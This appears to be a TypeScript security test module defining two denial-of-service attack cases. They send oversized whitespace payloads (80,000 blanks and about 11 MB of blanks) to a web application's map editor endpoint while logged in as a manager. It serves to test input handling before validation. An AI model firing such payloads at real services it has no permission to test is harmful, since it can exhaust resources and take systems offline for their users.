import { type Attack, buildMultipartBody, formatPartHead, send } from "../attack";

const blanks = (n: number) => `${" ".repeat(n)}x`;
const ACTS = ["undo", "new", "delete", "show"];

/** Map editor forms whose text is processed before it is validated. */
export const mapEditorAttacks: Attack[] = [
  {
    code: "V6",
    name: "80,000 blanks in the editor of areas",
    run: async (target) => {
      const who = await target.as("manager");
      const body = (act: string) =>
        new URLSearchParams({ location_method: "draw", areas: blanks(80_000), act, [act]: "1" }).toString();
      return Promise.all(ACTS.map((act) => send(target, "/jobs/1/map/edit", { who, body: body(act) })));
    },
  },
  {
    code: "V6",
    name: "11 MB of blanks in the same",
    run: async (target) => {
      const who = await target.as("manager");
      const sent = buildMultipartBody([
        { head: formatPartHead("areas"), body: `${"\n ".repeat(5_500_000)}x` },
        { head: formatPartHead("act"), body: "undo" },
      ]);
      return [await send(target, "/jobs/1/map/edit", { who, ...sent })];
    },
  },
];
